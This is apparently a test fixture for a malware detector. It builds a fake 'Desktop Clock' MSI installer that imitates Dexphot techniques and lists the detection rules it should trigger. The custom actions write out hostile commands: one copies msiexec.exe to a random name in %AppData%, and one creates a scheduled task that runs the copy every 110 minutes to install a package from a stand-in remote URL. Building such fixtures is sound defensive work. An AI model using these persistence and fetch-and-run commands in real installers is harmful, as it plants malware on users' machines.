/** msiexec is copied to a random name in %AppData%, and a task of every 110 minutes runs the copy with a URL. */
import { buildBundle, checkAction, command, startAction, unpackAction } from '../ingredient/bundle.js';
import { ruleId } from '../rule-id.js';
import { fullBundle, type SampleCase } from '../sample-case.js';

const PASSWORD = 'copy-6xL';
const COPY_NAME = 'ugxkpqvw.exe';

export const sample: SampleCase = {
  name: 'dexphot-renamed-msiexec',
  title: 'msiexec under a random name in a scheduled task',
  kind: 'dexphot',
  fileName: 'renamed.msi',
  build: () =>
    buildBundle({
      name: 'Desktop Clock',
      password: PASSWORD,
      customActions: [
        checkAction(),
        unpackAction(PASSWORD),
        startAction(),
        command('Copy', `cmd.exe /c copy /y "%windir%\\system32\\msiexec.exe" "%AppData%\\${COPY_NAME}"`),
        command(
          'Task',
          `schtasks /create /f /tn qzjwxkvbpt /sc minute /mo 110 /tr "%AppData%\\${COPY_NAME} /q /i http://kqzjxw.example.net/pw81xz"`,
        ),
      ],
    }),
  expected: fullBundle({
    hasBatch: true,
    findings: [
      ruleId.renamedSignedBinary,
      ruleId.scheduledMsiexecUrl,
      ruleId.scheduledTask90Or110,
      ruleId.randomTaskName,
    ],
  }),
};
